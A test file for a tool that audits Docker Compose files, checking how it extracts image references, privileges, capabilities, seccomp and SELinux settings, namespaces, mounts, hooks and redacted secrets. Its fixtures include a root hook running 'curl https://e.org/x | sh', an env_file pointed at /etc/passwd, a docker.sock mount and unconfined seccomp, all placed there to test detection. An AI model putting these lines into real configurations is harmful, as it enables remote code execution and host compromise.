import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { collectCompose } from '../../../src/collectors/compose/collect-compose.ts';

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'plimsoll-compose-'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

async function harvest(text: string, more: Readonly<Record<string, string>> = {}) {
  for (const [name, held] of Object.entries({ 'compose.yaml': text, ...more })) {
    writeFileSync(join(folder, name), held);
  }
  return await collectCompose({
    files: ['compose.yaml', ...Object.keys(more).filter((name) => name.endsWith('.yaml'))],
    cwd: folder,
    env: {},
    home: '/root',
    fingerprintKey: Buffer.alloc(32),
  });
}

async function service(text: string, more: Readonly<Record<string, string>> = {}) {
  const { subjects } = await harvest(text, more);
  const web = subjects.find(({ name }) => name === 'web');
  if (!web) throw new Error('There is no service web.');
  return { ...web, gapAt: (path: string) => web.gaps.find((gap) => gap.path === path) };
}

describe('the image', () => {
  it.each([
    'app:${TAG}',
    '${IMAGE}',
    'app@${DIGEST}',
    '${REGISTRY}/app:${TAG}',
    '${REGISTRY}/${NAME}',
    '${REGISTRY}/app${V}',
    '${REGISTRY}/app${V:+:2}',
    '${REGISTRY}/app${V:-}',
    '${REGISTRY}/app:',
    'app${V:+:2}',
    'app${V:+@sha256:${V}}',
    'x/app${V+:2}',
    '/app:latest',
  ])('is nobody’s guess where a variable in its name has no value: %s', async (image) => {
    const { facts, gapAt } = await service(`services: {web: {image: '${image}'}}\n`);
    expect(facts['image']).toEqual({ id: null });
    expect(gapAt('/image/reference')?.detail).toHaveProperty(
      'en',
      expect.stringContaining('a variable in it has no value here'),
    );
    expect(gapAt('/image/digest')).toBeDefined();
  });
  const digest = `sha256:${'a'.repeat(64)}`;
  it.each([
    ['${REGISTRY}/app:latest', '${REGISTRY}/app:latest', 'latest', null],
    ['$REGISTRY/app', '${REGISTRY}/app', null, null],
    ['${REGISTRY:-}/team/app:1', '${REGISTRY}/team/app:1', '1', null],
    ['${REGISTRY+r.example}/app:1', '${REGISTRY}/app:1', '1', null],
    ['${EMPTY}/app:1', '${EMPTY}/app:1', '1', null],
    [
      'r.example:5000/${TEAM}/app:${TAG:-latest}',
      'r.example:5000/${TEAM}/app:latest',
      'latest',
      null,
    ],
    ['${A:-${B}}/app:1', '${B}/app:1', '1', null],
    ['${REGISTRY}/app${V:-:2}', '${REGISTRY}/app:2', '2', null],
    ['${IMAGE}:latest', '${IMAGE}:latest', 'latest', null],
    [`\${REGISTRY}/app@${digest}`, `\${REGISTRY}/app@${digest}`, null, digest],
    ['${A:?see http://r.example}/app:latest', '${A}/app:latest', 'latest', null],
  ])(
    'has a tag and a digest that are certain where a variable leaves open where it lies: %s',
    async (image, spelled, tag, pinned) => {
      const { facts, gapAt } = await service(`services: {web: {image: '${image}'}}\n`, {
        '.env': 'EMPTY=\n',
      });
      expect(facts['image']).toEqual({ id: null, spelled, tag, digest: pinned });
      expect(gapAt('/image/reference')).toBeDefined();
      expect(gapAt('/image/registry')).toBeDefined();
    },
  );
  it('has no digest that is certain where it is built as well', async () => {
    const { facts, gapAt } = await service(
      "services: {web: {image: '${REGISTRY}/app:1', build: .}}\n",
    );
    expect(facts['image']).toEqual({ id: null, spelled: '${REGISTRY}/app:1', tag: '1' });
    expect(gapAt('/image/digest')?.detail).toHaveProperty('en', expect.stringContaining('built'));
  });
  it.each([
    ['${REGISTRY}app:1', 'app:1'],
    ['app:1${SUFFIX}', 'app:1'],
    ['app${V:-}', 'app'],
    ['${REGISTRY:+$REGISTRY:5000/}app:1', 'app:1'],
    ['${REGISTRY:-r.example}/app:1', 'r.example/app:1'],
  ])('is what Compose makes of it where no part of it is empty: %s', async (image, reference) => {
    const { facts } = await service(`services: {web: {image: '${image}'}}\n`);
    expect(facts['image']).toMatchObject({ reference });
    expect(facts['image']).not.toHaveProperty('spelled');
  });
  it('is what a default makes of it', async () => {
    const { facts, gaps } = await service("services: {web: {image: 'app:${TAG:-1.2}'}}\n");
    expect(facts['image']).toMatchObject({ reference: 'app:1.2', tag: '1.2' });
    expect(gaps.filter(({ path }) => path.startsWith('/image'))).toEqual([]);
  });
});

describe('where a fact stands', () => {
  it('is the place of its value, in whichever file it is', async () => {
    const { facts, sources } = await service('services:\n  web:\n    image: web:1\n', {
      'over.yaml': 'services:\n  web:\n    privileged: true\n',
    });
    expect(facts['privileged']).toBe(true);
    expect(sources?.['/privileged']).toEqual({
      kind: 'file',
      path: 'over.yaml',
      line: 3,
      column: 17,
    });
    expect(sources?.['/image/reference']).toEqual({
      kind: 'file',
      path: 'compose.yaml',
      line: 3,
      column: 12,
    });
  });

  it('is the service where the engine has a default, and says that nothing was set', async () => {
    const { facts, sources } = await service('services:\n  web:\n    image: web:1\n');
    expect(facts['privileged']).toBe(false);
    expect(sources?.['/privileged']).toEqual({
      kind: 'file',
      path: 'compose.yaml',
      line: 2,
      column: 3,
      unset: true,
    });
  });

  it('is the anchor for what is merged in', async () => {
    const { sources } = await service(
      'x-a: &a\n  privileged: true\nservices:\n  web: {<<: *a, image: web:1}\n',
    );
    expect(sources?.['/privileged']).toMatchObject({ line: 2, column: 15 });
  });
});

describe('secrets in commands', () => {
  const secretsOf = async (fields: string) => {
    const indented = fields.replaceAll(/^/gm, '    ');
    const { facts, sources } = await service(`services:\n  web:\n    image: w:1\n${indented}\n`);
    const place = sources?.['/secretArguments'];
    return { rules: facts['secretArguments'], line: place?.kind === 'file' ? place.line : null };
  };

  it.each([
    ['the command', 'command: x --password hunter2x', ['secret-name'], 4],
    ['the health check', 'healthcheck: {test: curl -u me:hunter2x x}', ['login-option'], 4],
    [
      'either',
      'entrypoint: x --token hunter2x\nhealthcheck: {test: curl -u me:hunter2x x}',
      ['secret-name', 'login-option'],
      4,
    ],
    ['none', 'entrypoint: x\nhealthcheck: {test: curl -u "$$ME:$$MINE" x}', [], 4],
    [
      'the health check alone, with an entrypoint',
      'entrypoint: x\nhealthcheck: {test: curl -u me:hunter2x x}',
      ['login-option'],
      5,
    ],
  ])('are found in %s', async (_, fields, rules, line) => {
    expect(await secretsOf(fields)).toEqual({ rules, line });
  });
});

describe('what a file cannot tell', () => {
  it.each([
    '/user',
    '/healthCheck',
    '/command',
    '/secretArguments',
    '/logging/driver',
    '/security/apparmor/profile',
    '/security/selinux/label',
    '/namespaces/user',
    '/namespaces/cgroup',
  ])('%s is a gap', async (path) => {
    const { gapAt } = await service('services: {web: {image: web:1}}\n');
    expect(gapAt(path)).toMatchObject({ reason: 'unsupported', source: { path: 'compose.yaml' } });
  });

  it('is which image is built', async () => {
    const { facts, gapAt } = await service('name: p\nservices: {web: {build: .}}\n');
    expect(facts['image']).toMatchObject({ reference: 'p-web', registry: '' });
    expect(gapAt('/image/digest')).toBeDefined();
    expect(gapAt('/image/tag')).toBeDefined();
  });

  it('is the user that an empty one leaves', async () => {
    const { facts, gapAt } = await service('services: {web: {image: web:1, user: ""}}\n');
    expect(facts).not.toHaveProperty('user');
    expect(gapAt('/user')).toMatchObject({ reason: 'unsupported' });
  });

  it('is where a path outside of the project leads', async () => {
    const { facts, gapAt } = await service(
      'services: {web: {image: w, volumes: ["/srv/x:/x", "./y:/y"]}}\n',
    );
    expect(gapAt('/mounts/0/hostPath')).toMatchObject({ reason: 'unavailable' });
    expect(facts['mounts']).toMatchObject([{ source: '/srv/x' }, { hostPath: join(folder, 'y') }]);
  });

  it('is what of the host lies on a disk, and whether a disk is behind what is made elsewhere', async () => {
    const { facts, gapAt } = await service(
      'services: {web: {image: w, volumes: ["disk:/d", "else:/e", "free:/f"]}}\n' +
        'volumes: {disk: {driver_opts: {type: xfs, device: /dev/sdb1}}, else: {external: true}, free: {}}\n',
    );
    expect(gapAt('/mounts/0/hostPath')).toMatchObject({ reason: 'unsupported' });
    expect(gapAt('/mounts/1/hostPath')).toMatchObject({ reason: 'unavailable' });
    expect(gapAt('/mounts/1/device')).toMatchObject({ reason: 'unavailable' });
    expect(facts['mounts']).toMatchObject([
      { target: '/d', device: '/dev/sdb1' },
      { target: '/e' },
      { target: '/f', hostPath: null },
    ]);
  });
});

describe('what a file says', () => {
  it.each<[string, string, object]>([
    [
      'limits, the newer spelling first',
      'mem_limit: 64m\ndeploy: {resources: {limits: {memory: 64m, cpus: "0.5", pids: 9}}}',
      { resources: { memoryBytes: 67_108_864, cpus: 0.5, pidsLimit: 9 } },
    ],
    [
      'limits of which the older spelling is 0, and so says nothing',
      'mem_limit: 0\ncpus: 0\npids_limit: 0\ndeploy: {resources: {limits: {memory: 64m, cpus: "0.5", pids: 9}}}',
      { resources: { memoryBytes: 67_108_864, cpus: 0.5, pidsLimit: 9 } },
    ],
    ['no limit, where it has a fraction', 'mem_limit: 1.5', { resources: { memoryBytes: 0 } }],
    [
      'no option behind an operator of a shell, and the secret there all the same',
      'entrypoint: server --quiet\ncommand: --port 1 && client --password "h4ckmenot99x" & c',
      { command: ['server', '--quiet', '--port', '1'], secretArguments: ['secret-name'] },
    ],
    [
      'no rights of a device where a path stands',
      'devices: ["/dev/sda:r"]',
      { devices: [{ hostPath: '/dev/sda', containerPath: 'r', permissions: 'rwm' }] },
    ],
    ['a quota', 'cpu_quota: 50000\ncpu_period: 100000', { resources: { cpus: 0.5 } }],
    [
      'a port on all interfaces',
      'ports: ["80:8080"]',
      {
        ports: [
          { hostAddress: '0.0.0.0', hostPort: 80, containerPort: 8080, protocol: 'tcp' },
          { hostAddress: '::', hostPort: 80 },
        ],
      },
    ],
    [
      'a range of ports that the engine picks from',
      'ports: ["127.0.0.1:80-90:8080"]',
      { ports: [{ hostPort: null, hostRange: { first: 80, last: 90 }, containerPort: 8080 }] },
    ],
    [
      'no range that is none',
      'ports: [{target: 80, published: "90-80", host_ip: "127.0.0.1"}]',
      { ports: [{ hostAddress: '127.0.0.1', hostPort: null }] },
    ],
    ...['localhost', '127.0.0.1 ', 'fe80::1%eth0'].map((name): [string, string, object] => [
      `a port on what the engine takes for no address, ${JSON.stringify(name)}`,
      `ports: [{target: 80, published: 80, host_ip: "${name}"}]`,
      { ports: [{ hostAddress: '0.0.0.0' }, { hostAddress: '::' }] },
    ]),
    [
      "no port where the network is another's",
      'network_mode: host\nports: ["80:8080"]',
      { ports: [] },
    ],
    [
      'namespaces',
      'pid: host\nipc: host\nuts: host\nuserns_mode: host\ncgroup: host',
      {
        namespaces: {
          pid: { resolved: 'host' },
          ipc: { resolved: 'host' },
          uts: { resolved: 'host' },
          user: { resolved: 'host' },
          cgroup: { resolved: 'host' },
        },
      },
    ],
    [
      'capabilities',
      'cap_add: [cap_sys_admin]\ncap_drop: [ALL]',
      { capabilities: { added: ['SYS_ADMIN'], dropped: ['ALL'], effective: ['SYS_ADMIN'] } },
    ],
    [
      'tries of a restart',
      'restart: on-failure:3',
      { restart: { policy: 'on-failure', maximumRetries: 3 } },
    ],
    [
      'a restart of deploy',
      'restart: always\ndeploy: {restart_policy: {condition: none}}',
      { restart: { policy: 'no' } },
    ],
    ['a user', 'user: "1000:50"', { user: { uid: 1000, gid: 50 } }],
    [
      'a health check',
      'healthcheck: {test: "true", interval: 1m30s}',
      { healthCheck: { state: 'set', intervalSeconds: 90 } },
    ],
    ...['[curl, -f, x]', '[CMD]', '""', '[CMD-SHELL, " "]'].map(
      (test): [string, string, object] => [
        `a health check of which the engine makes nothing, ${test}`,
        `healthcheck: {test: ${test}}`,
        { healthCheck: { state: 'absent', test: [] } },
      ],
    ),
    ...['bridge', 'default'].map((mode): [string, string, object] => [
      `the default bridge, as ${mode}`,
      `network_mode: ${mode}`,
      { networks: [{ name: 'bridge' }], namespaces: { network: { resolved: 'private' } } },
    ]),
    [
      'security options',
      'security_opt: [no-new-privileges, "seccomp:unconfined", "label:disable"]',
      {
        security: {
          noNewPrivileges: true,
          seccomp: { mode: 'unconfined' },
          selinux: { disabled: true },
        },
      },
    ],
    [
      'a working directory',
      'working_dir: /proc/self/fd/7',
      { workingDirectory: '/proc/self/fd/7' },
    ],
    ['a time to stop', 'stop_grace_period: 1m30s', { stopTimeoutSeconds: 90 }],
    ['a time to stop of none', 'stop_grace_period: 0s', { stopTimeoutSeconds: 0 }],
    ['no time to stop', 'init: true', { stopTimeoutSeconds: null }],
    ['a command', 'entrypoint: /a\ncommand: b c', { command: ['/a', 'b', 'c'] }],
  ])('%s', async (_, fields, expected) => {
    const indented = fields.replaceAll(/^/gm, '    ');
    const { facts, gaps } = await service(`services:\n  web:\n    image: web:1\n${indented}\n`);
    expect(facts).toMatchObject(expected);
    expect(gaps.filter(({ reason }) => reason === 'malformed')).toEqual([]);
  });

  it("of another service whose network is the host's", async () => {
    const { facts } = await service(
      'services:\n  web: {image: w, network_mode: "service:vpn"}\n  vpn: {image: v, network_mode: host}\n',
    );
    expect(facts['namespaces']).toMatchObject({
      network: { mode: 'container', chain: ['vpn'], resolved: 'host' },
    });
  });

  it.each(['networks: [default]', 'environment: {}'])(
    "of the project's own network that is the host's: %s",
    async (fields) => {
      const { facts } = await service(
        `services: {web: {image: w, ${fields}}}\nnetworks: {default: {external: true, name: host}}\n`,
      );
      expect(facts['namespaces']).toMatchObject({ network: { mode: 'host', resolved: 'host' } });
    },
  );

  it('of a seccomp profile in a file', async () => {
    const { facts } = await service(
      'services: {web: {image: w, security_opt: ["seccomp:./all.json"]}}\n',
      {
        'all.json': '{"defaultAction": "SCMP_ACT_ALLOW"}',
      },
    );
    expect(facts['security']).toMatchObject({ seccomp: { mode: 'custom', allowsAll: true } });
  });

  it.each(['./gone.json', '/etc/docker/seccomp.json'])(
    'of a seccomp profile that is not read, with all else: %s',
    async (file) => {
      const { facts, gapAt } = await service(
        `services: {web: {image: w, privileged: true, security_opt: ["seccomp:${file}"]}}\n`,
      );
      expect(facts).toMatchObject({ privileged: true, security: { noNewPrivileges: false } });
      expect(facts['security']).not.toHaveProperty('seccomp');
      expect(gapAt('/security/seccomp')).toMatchObject({ reason: 'unavailable' });
    },
  );

  it.each(['/etc/passwd', '../gone.env', '{path: /etc/passwd, required: false}'])(
    'of a file of variables outside of the project, which is not read: %s',
    async (file) => {
      const { facts, gapAt } = await service(
        `services: {web: {image: w, env_file: [${file}], environment: [A=1]}}\n`,
      );
      expect(facts['environment']).toMatchObject([{ name: 'A', secret: false }]);
      expect(gapAt('/environment/-')).toMatchObject({
        detail: { en: expect.stringContaining('is outside the project') as string },
      });
    },
  );

  it('of a mount written at length, its target as Compose hands it over', async () => {
    const { facts } = await service(
      'services: {web: {image: w, volumes: [{type: bind, source: /srv/a, target: //etc//app/}]}}\n',
    );
    expect(facts['mounts']).toMatchObject([{ source: '/srv/a', target: '/etc/app' }]);
  });

  it('of an SELinux label that is switched off, at its own line', async () => {
    const { facts, sources } = await service(
      `services:
  web:
    image: w
    security_opt:
      - no-new-privileges
      - label:disable
      - label:level:s0
`,
    );
    expect(facts).toMatchObject({ security: { selinux: { disabled: true } } });
    expect(sources?.['/security/selinux/disabled']).toMatchObject({ line: 6 });
  });

  it('of the type of an SELinux label, at its own line', async () => {
    const { facts, sources } = await service(
      `services:
  web:
    image: w
    security_opt:
      - label:user:u
      - label=type:container_t
      - label:type:spc_t
      - label:level:s0
`,
    );
    expect(facts).toMatchObject({ security: { selinux: { disabled: false, type: 'spc_t' } } });
    expect(sources?.['/security/selinux/type']).toMatchObject({ line: 7 });
  });

  it('of a port of the host that is none, which the engine refuses', async () => {
    const { facts, gapAt } = await service(
      `services:
  web:
    image: w
    ports:
      - {target: 80, published: "127.0.0.1:8080"}
      - {target: 90, published: "0"}
`,
    );
    expect(facts).toMatchObject({ ports: [{ containerPort: 90 }, { containerPort: 90 }] });
    expect(gapAt('/ports/-')).toMatchObject({
      reason: 'malformed',
      detail: { en: '“127.0.0.1:8080” is not a port of the host, and the engine refuses it' },
      source: { line: 5 },
    });
  });

  it('of mounts that are taken over from another service', async () => {
    const { facts, gapAt, sources } = await service(
      `services:
  web:
    image: w
    volumes: [./own:/data]
    volumes_from: ["base:ro", "container:other"]
  base:
    image: b
    volumes: [./base:/data, /var/run/docker.sock:/sock]
    volumes_from: [deeper]
  deeper: {image: d, tmpfs: [/kept], volumes: [{type: tmpfs, target: /t}]}
`,
    );
    // A list of tmpfs is no mount to the engine, and stays with its service.
    expect(facts['mounts']).toMatchObject([
      { target: '/data', source: join(folder, 'own'), readOnly: false },
      { target: '/sock', source: '/var/run/docker.sock', readOnly: true },
      { target: '/t', type: 'tmpfs', readOnly: true },
    ]);
    expect(sources?.['/mounts/1']).toMatchObject({ line: 5, column: 20 });
    expect(gapAt('/mounts/-')?.detail).toHaveProperty('en', expect.stringContaining('other'));
  });

  it('of mounts that are taken over in a circle', async () => {
    const { gapAt } = await service(
      'services: {web: {image: w, volumes_from: [b]}, b: {image: b, volumes_from: [b]}}\n',
    );
    expect(gapAt('/mounts/-')).toMatchObject({ reason: 'unavailable' });
  });

  it('of the socket that use_api_socket gives, and of what gpus asks for', async () => {
    const { facts } = await service(
      'services: {web: {image: w, use_api_socket: true, gpus: all}}\n',
    );
    expect(facts['mounts']).toMatchObject([{ source: '/var/run/docker.sock', readOnly: false }]);
    expect(facts['deviceRequests']).toEqual([{ driver: '', capabilities: ['gpu'] }]);
  });

  it('of names and of parameters of the kernel, each item at its own line, and of nothing where none is told', async () => {
    const { facts, sources } = await service(
      "services:\n  web:\n    image: a\n    sysctls: [net.core.somaxconn=1024]\n    extra_hosts:\n      - 'six:[::1]'\n      - db=192.0.2.7\n",
    );
    expect(facts['sysctls']).toEqual({ 'net.core.somaxconn': '1024' });
    expect(facts['nameResolution']).toEqual({
      servers: [],
      domains: [],
      options: [],
      hosts: ['six=::1', 'db=192.0.2.7'],
    });
    expect(sources?.['/nameResolution/hosts/1']).toMatchObject({ line: 7, column: 9 });
    expect(sources?.['/sysctls']).toMatchObject({ line: 4 });
    const plain = await service('services: {web: {image: a}}\n');
    expect(Object.keys(plain.facts)).not.toContain('nameResolution');
    expect(Object.keys(plain.facts)).not.toContain('sysctls');
  });

  it('of labels in a file, below those of the service', async () => {
    const { facts } = await service(
      'services: {web: {image: w, label_file: ./a.labels, labels: {b: own}}}\n',
      { 'a.labels': 'a=1\nb=2\n' },
    );
    expect(facts['labels']).toEqual({ a: '1', b: 'own' });
  });

  it('of no variable that has a name alone and no value anywhere', async () => {
    const { facts } = await service('services: {web: {image: w, environment: [A, B=1]}}\n');
    expect(facts['environment']).toMatchObject([{ name: 'B' }]);
  });

  it('of variables of a file that is not there: there may be more, and what it cannot change is known', async () => {
    const { facts, gaps, sources } = await service(
      'services:\n  web:\n    image: w\n    privileged: true\n    env_file: [a.env, {path: b.env, required: false}, c.env, d.env]\n    environment: [A=1]\n',
      { 'a.env': 'B=2\n', 'd.env': 'D=4\n' },
    );
    // c.env may set B anew, and neither A nor D.
    expect(facts['environment']).toMatchObject([{ name: 'D' }, { name: 'A' }]);
    expect(gaps.filter(({ path }) => path.startsWith('/environment'))).toEqual([
      {
        path: '/environment/-',
        reason: 'unavailable',
        detail: {
          en: 'c.env is not there, and so nobody knows what it sets',
          zh: 'c.env 不存在，无从得知其设置的内容',
        },
        source: { kind: 'file', path: 'compose.yaml', line: 5, column: 55 },
      },
    ]);
    expect(facts['privileged']).toBe(true);
    expect(sources?.['/privileged']).toMatchObject({ line: 4 });
  });

  it('of nothing that is no container', async () => {
    const { subjects } = await harvest(
      'services: {web: {image: w}, db: {provider: {type: cloud}}}\n',
    );
    expect(subjects.map(({ name }) => name)).not.toContain('db');
  });

  it('of secrets, and none of their values', async () => {
    const { subjects, redactions } = await harvest(
      'services: {web: {image: w, environment: {DB_PASSWORD: canary-4711-x}, env_file: a.env, labels: {api-token: canary-4711-y}, entrypoint: ["x", "--password", "canary-4711-z"]}}\n',
      { 'a.env': 'API_SECRET=canary-4711-w\n' },
    );
    expect(JSON.stringify(subjects)).not.toContain('canary-4711');
    const services = subjects.filter(({ kind }) => kind === 'workload');
    expect(services[0]?.facts['environment']).toMatchObject([
      { name: 'API_SECRET', secret: true },
      { name: 'DB_PASSWORD', secret: true },
    ]);
    expect(redactions).not.toEqual({});
  });

  const withProfile =
    'services:\n  web: {image: w}\n  debug: {image: d, privileged: true, profiles: [debug, all]}\n';

  it('of services of all profiles, and which of them start one', async () => {
    for (const told of ['', 'COMPOSE_PROFILES=other\n', 'COMPOSE_PROFILES=\n']) {
      const { target, subjects } = await harvest(withProfile, { '.env': told });
      const services = subjects.filter(({ kind }) => kind === 'workload');
      expect(services.map(({ name, facts }) => [name, facts['profiles']])).toEqual([
        ['web', []],
        ['debug', ['debug', 'all']],
      ]);
      expect(services[1]?.facts['privileged']).toBe(true);
      const project = subjects.find(({ kind }) => kind === 'compose-project');
      expect(project?.facts['services']).toEqual([
        { name: 'web', on: true, profiles: [] },
        { name: 'debug', on: false, profiles: ['debug', 'all'] },
      ]);
      expect(target.description).toEqual({
        en: expect.stringMatching(/only a profile starts them: debug \(debug, all\)$/) as string,
        zh: expect.stringMatching(
          /仅由 profile 启动、同样已检查的服务：debug \(debug, all\)$/,
        ) as string,
      });
    }
  });

  it('of what else there is, where a part of the project is not here', async () => {
    const { subjects, failures, gaps } = await harvest(
      [
        'include:',
        '  - oci://registry.example/app:1',
        '  - https://github.com/example/app.git#main',
        '  - git@github.com:example/app.git',
        '  - gone.yaml',
        'services:',
        '  web: {image: w, privileged: true}',
        '  base: {extends: {file: gone.yaml, service: base}}',
        '  far: {extends: {file: "https://example.org/base.yaml", service: base}}',
        '',
      ].join('\n'),
    );
    const services = subjects.filter(({ kind }) => kind === 'workload');
    // What a base that is not here says of them is unknown.
    expect(services.map(({ name }) => name)).toEqual(['web', 'base', 'far']);
    expect(failures).toHaveLength(6);
    expect(gaps).toContainEqual(expect.objectContaining({ kind: 'workload', reason: 'malformed' }));
  });
});

describe('how the image is built', () => {
  it('is told by what the file says, and by the defaults of a builder', async () => {
    const { facts, sources } = await service(`services:
  web:
    build:
      context: .
      network: host
      args: { VERSION: '1.2' }
`);
    expect(facts['build']).toEqual({
      arguments: [{ name: 'VERSION', secret: false, rule: null, fingerprint: null }],
      privileged: false,
      network: 'host',
      entitlements: [],
    });
    expect(sources?.['/build/network']).toMatchObject({ line: 5, column: 16 });
  });
  it('is said of no image that is only fetched', async () => {
    const { facts } = await service('services: {web: {image: web:1}}\n');
    expect(facts).not.toHaveProperty('build');
  });
  it.each([
    ['a value', 'DB_PASSWORD: hunter2hunter2', 'secret-name'],
    ['a variable that has no value here', 'NPM_TOKEN: "${NPM_TOKEN}"', 'secret-argument'],
    ['a variable that must have one', 'NPM_TOKEN: "${NPM_TOKEN:?}"', 'secret-argument'],
    ['a name alone', 'NPM_TOKEN:', 'secret-argument'],
  ])('finds the secret of an argument: %s', async (_, written, rule) => {
    const { facts } = await service(
      `services:\n  web:\n    build:\n      context: .\n      args:\n        ${written}\n`,
    );
    expect(facts['build']).toHaveProperty('arguments.0', expect.objectContaining({ rule }));
    expect(JSON.stringify(facts)).not.toContain('hunter2');
  });
  it('knows of no argument what nobody has told', async () => {
    const { gapAt } = await service(
      'services: {web: {build: {context: ., args: {LEVEL: "${LEVEL:?say it}"}}}}\n',
    );
    expect(gapAt('/build/arguments/0/secret')).toMatchObject({ reason: 'unavailable' });
  });
});

describe('hooks', () => {
  it('are what Compose runs beside the command, each at its line', async () => {
    const { facts, sources } = await service(`services:
  web:
    image: web:1
    post_start:
      - command: [/bin/chown, -R, '1000', /data]
        user: root
        privileged: true
    pre_stop:
      - command: ./flush.sh now
`);
    expect(facts['hooks']).toEqual([
      {
        when: 'after-start',
        program: 'chown',
        command: ['/bin/chown', '-R', '1000', '/data'],
        user: { configured: 'root', name: 'root', uid: 0, gid: null },
        privileged: true,
      },
      {
        when: 'before-stop',
        program: 'flush.sh',
        command: ['./flush.sh now'],
        user: null,
        privileged: false,
      },
    ]);
    expect(sources?.['/hooks/1']).toMatchObject({ line: 9 });
  });
  it('are what Compose runs when files change that it watches', async () => {
    const { facts, sources } = await service(`services:
  web:
    image: web:1
    develop:
      watch:
        - path: ./src
          action: sync+exec
          target: /src
          exec:
            command: [sh, -c, curl https://e.org/x | sh]
            user: root
`);
    expect(facts['hooks']).toMatchObject([
      { when: 'after-start', program: 'sh', command: ['sh', '-c', 'curl https://e.org/x | sh'] },
    ]);
    expect(sources?.['/hooks/0']).toMatchObject({ line: 10 });
  });
  it.each([
    ['its command', 'command: mysql -psecretpw123', 'login-option'],
    ['its words', 'command: [curl, -u, "me:secretpw123"]', 'login-option'],
    ['its variables', 'environment: { DB_PASSWORD: secretpw123 }', 'secret-name'],
    ['a list of them', 'environment: [DB_PASSWORD=secretpw123]', 'secret-name'],
  ])('show no secret, which is found in %s', async (_, written, rule) => {
    const { facts, sources } = await service(
      `services:\n  web:\n    image: web:1\n    post_start:\n      - user: '1000'\n        ${written}\n`,
    );
    expect(facts['secretArguments']).toEqual([rule]);
    expect(sources?.['/secretArguments']).toMatchObject({ line: 5 });
    expect(JSON.stringify(facts)).not.toContain('secretpw123');
  });
});
